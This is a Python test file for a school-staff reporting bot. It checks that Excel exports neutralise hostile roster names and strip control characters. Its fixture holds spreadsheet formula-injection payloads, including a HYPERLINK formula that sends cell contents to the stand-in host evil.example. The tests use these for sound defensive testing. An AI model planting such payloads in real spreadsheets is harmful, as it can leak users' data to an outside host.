"""Phụ lục 4 and 5 with hostile roster data: formulas stay text, control characters go."""

from __future__ import annotations

import io
import zipfile

from openpyxl import load_workbook

from bot.reports import render
from bot.reports.scope import Scope
from bot.reports.stats import build_report
from bot.storage import Database
from bot.storage.corrections import report_correction
from bot.storage.reports import open_corrections, staff_in_scope
from tests.default_campaign import BP

HOSTILE = {
    "Lê Văn Bình": '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào")',
    "Vũ Thị Thu": "+84912000003",
    "Đỗ Minh Khoa": "-2+3",
    "Phan Văn Tài": "@SUM(A1:A9)",
    "Mai Thị Ngọc": "Mai\x07 Thị\x00 Ngọc\x1b",
}
PROVINCE = Scope("province", None, "Sở GD&ĐT Bình Phước")


async def _hostile_roster(db: Database) -> None:
    async with db.transaction() as tx:
        for name, hostile in HOSTILE.items():
            await tx.execute("UPDATE people SET full_name = ? WHERE full_name = ?",
                             (hostile, name))
        await tx.execute("UPDATE units SET name = 'Trường THCS\x07 Lê Lợi' "
                         "WHERE name = 'Trường THCS Lê Lợi'")


def _cells(content: bytes) -> list[list[object]]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [[c.value for c in row] for row in sheet.iter_rows(min_row=4)]


def _no_formula(content: bytes) -> None:
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        xml = book.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


async def test_phu_luc_5_keeps_hostile_names_as_plain_text(demo_db: Database) -> None:
    await _hostile_roster(demo_db)
    report = build_report(PROVINCE, await staff_in_scope(demo_db.reader, PROVINCE, BP), BP)
    content = render.phu_luc_5_xlsx(report)  # a control character used to fail every export
    _no_formula(content)
    rows = _cells(content)
    names = {r[1] for r in rows}
    for hostile in list(HOSTILE.values())[:4]:
        assert hostile in names  # shown exactly as typed, as text
    assert "Mai Thị Ngọc" in names
    assert "Trường THCS Lê Lợi" in {r[2] for r in rows}
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    formula_like = [c for row in sheet.iter_rows(min_row=4) for c in row
                    if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert formula_like and all(c.data_type == "s" and c.quotePrefix for c in formula_like)


async def test_phu_luc_4_keeps_hostile_names_and_values_as_plain_text(
        demo_db: Database) -> None:
    await _hostile_roster(demo_db)
    rows = await demo_db.reader.execute_fetchall(
        "SELECT id FROM people WHERE full_name IN (?, ?)",
        (HOSTILE["Lê Văn Bình"], HOSTILE["Mai Thị Ngọc"]))
    async with demo_db.transaction() as tx:
        for (person,) in rows:
            await report_correction(tx, person_id=person, field="birth_place",
                                    wrong="=1+1\x08", correct="Hòa\x0b Bình", by="test")
    corrections = await open_corrections(demo_db.reader, PROVINCE)
    content = render.phu_luc_4_xlsx(corrections, PROVINCE)
    _no_formula(content)
    cells = _cells(content)
    assert {r[1] for r in cells} == {HOSTILE["Lê Văn Bình"], "Mai Thị Ngọc"}
    assert all(r[2] == "Nơi sinh: =1+1" and r[3] == "Nơi sinh: Hòa Bình" for r in cells)
